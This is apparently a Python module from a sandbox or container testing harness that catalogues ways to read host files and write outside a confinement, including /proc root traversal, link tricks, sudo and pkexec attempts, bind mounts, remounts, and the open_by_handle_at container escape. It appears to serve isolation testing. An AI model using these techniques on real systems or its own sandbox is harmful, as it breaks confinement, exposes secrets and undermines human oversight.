"""Ways to read a file of the host, and ways to leave something there."""

import contextlib
import ctypes
import mmap
import os
import shutil
import socket
import struct
from collections.abc import Callable

from .loot import X86, claim, libc, loot, output, read, syscall


def read_open(path: str) -> None:
    loot(read(path))


def read_below(prefix: str) -> Callable[[str], None]:
    return lambda path: loot(read(prefix + path))


def read_parents(path: str) -> None:
    loot(read("../" * 40 + path.lstrip("/")))


def read_symlink(path: str) -> None:
    os.symlink(path, f"link-{os.getpid()}")
    loot(read(f"link-{os.getpid()}"))


def read_folder_symlink(path: str) -> None:
    os.symlink(os.path.dirname(path), f"folder-{os.getpid()}")
    loot(read(f"folder-{os.getpid()}/{os.path.basename(path)}"))


def read_hard_link(path: str) -> None:
    os.link(path, f"hard-{os.getpid()}")
    loot(read(f"hard-{os.getpid()}"))


def read_openat(path: str) -> None:
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    descriptor = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
    loot(os.read(descriptor, 1 << 16))


def read_o_path(path: str) -> None:
    descriptor = os.open(path, os.O_PATH)
    loot(read(f"/proc/self/fd/{descriptor}"))


def read_mmap(path: str) -> None:
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as memory:
        loot(memory[:4096])


def read_program(*argv: str) -> Callable[[str], None]:
    return lambda path: loot(output(*argv, path))


def read_shell(path: str) -> None:
    loot(output("/bin/sh", text=f"cat <{path}; while read -r line; do echo $line; done <{path}"))


def read_su(path: str) -> None:
    for program in ("sudo -n", "su -c", "pkexec", "doas"):
        loot(output("/bin/sh", "-c", f"{program} cat {path}"))


def read_copy(path: str) -> None:
    shutil.copy(path, f"copy-{os.getpid()}")
    loot(read(f"copy-{os.getpid()}"))


def read_rename(path: str) -> None:
    os.rename(path, f"moved-{os.getpid()}")
    loot(read(f"moved-{os.getpid()}"))


def read_bind_mount(path: str) -> None:
    os.makedirs("mnt", exist_ok=True)
    if libc.mount(os.path.dirname(path).encode(), b"mnt", None, 4096, None) == 0:
        claim("bind mount")
    loot(read("mnt/" + os.path.basename(path)))


def read_user_namespace(path: str) -> None:
    loot(output("unshare", "-rm", "cat", path))


def read_fds(path: str) -> None:
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            loot(read(f"/proc/self/fd/{name}/../../../../../../../..{path}"))


def read_host_root(path: str) -> None:
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        with contextlib.suppress(OSError):
            loot(read(f"/proc/{pid}/root{path}"))


def read_host_cwd(path: str) -> None:
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        with contextlib.suppress(OSError):
            loot(read(f"/proc/{pid}/cwd/{'../' * 30}{path.lstrip('/')}"))


def read_handle(path: str) -> None:
    """The root of the file system by its handle: the trick that once opened containers."""
    here = os.open(".", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0) + bytes(120))
    root = syscall(304 if X86 else 265, ctypes.c_int(here), handle, ctypes.c_int(os.O_RDONLY))
    claim("open_by_handle_at")
    descriptor = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
    loot(os.read(descriptor, 1 << 16))


READ: dict[str, Callable[[str], None]] = {
    "open": read_open,
    "self-root": read_below("/proc/self/root"),
    "init-root": read_below("/proc/1/root"),
    "thread-root": read_below("/proc/thread-self/root"),
    "any-root": read_host_root,
    "any-cwd": read_host_cwd,
    "parents": read_parents,
    "symlink": read_symlink,
    "folder-symlink": read_folder_symlink,
    "hard-link": read_hard_link,
    "openat": read_openat,
    "o-path": read_o_path,
    "mmap": read_mmap,
    "cat": read_program("cat"),
    "shell": read_shell,
    "su": read_su,
    "copy": read_copy,
    "rename": read_rename,
    "bind-mount": read_bind_mount,
    "unshare": read_user_namespace,
    "descriptors": read_fds,
    "handle": read_handle,
}


def write_open(folder: str, name: str) -> None:
    with open(f"{folder}/{name}", "w") as file:
        file.write("written")


def write_mkdir(folder: str, name: str) -> None:
    os.mkdir(f"{folder}/{name}")


def write_symlink(folder: str, name: str) -> None:
    os.symlink(folder, f"to-{os.getpid()}")
    write_open(f"to-{os.getpid()}", name)


def write_root(folder: str, name: str) -> None:
    write_open(f"/proc/self/root/../..{folder}", name)


def write_rename(folder: str, name: str) -> None:
    write_open(".", name)
    os.rename(name, f"{folder}/{name}")


def write_link(folder: str, name: str) -> None:
    write_open(".", name)
    os.link(name, f"{folder}/{name}")


def write_socket(folder: str, name: str) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"{folder}/{name}"[:107])


def write_fifo(folder: str, name: str) -> None:
    os.mkfifo(f"{folder}/{name}")


def write_touch(folder: str, name: str) -> None:
    output("/bin/sh", "-c", f"touch {folder}/{name}; echo x > {folder}/{name}; echo x | tee {folder}/{name}")


def write_keep(folder: str, name: str) -> None:
    with open(f"{folder}/keep", "a") as file:
        file.write(name)


def write_truncate(folder: str, name: str) -> None:
    os.truncate(f"{folder}/keep", 0)


def write_remove(folder: str, name: str) -> None:
    os.unlink(f"{folder}/keep")


def write_chmod(folder: str, name: str) -> None:
    os.chmod(f"{folder}/keep", 0o777)


def write_remount(folder: str, name: str) -> None:
    if libc.mount(None, folder.encode(), None, 4096 | 32, None) == 0:
        claim("remount")
    write_open(folder, name)


WRITE: dict[str, Callable[[str, str], None]] = {
    "open": write_open,
    "mkdir": write_mkdir,
    "symlink": write_symlink,
    "root": write_root,
    "rename": write_rename,
    "link": write_link,
    "socket": write_socket,
    "fifo": write_fifo,
    "shell": write_touch,
    "remount": write_remount,
    "keep": write_keep,
    "truncate": write_truncate,
    "remove": write_remove,
    "chmod": write_chmod,
}
